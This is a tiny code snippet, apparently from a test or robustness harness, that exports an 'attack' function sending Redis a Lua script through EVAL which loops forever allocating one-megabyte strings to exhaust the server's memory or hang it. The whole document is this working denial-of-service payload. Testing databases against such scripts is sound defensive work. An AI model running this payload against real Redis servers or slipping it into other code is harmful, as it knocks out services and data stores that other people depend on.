// out of memory in the data or timed out in the data or fails, judged by redis | A script that fills the memory.
export const attack = client => client.eval('local t = {} while true do t[#t + 1] = string.rep("x", 1000000) end', 0);
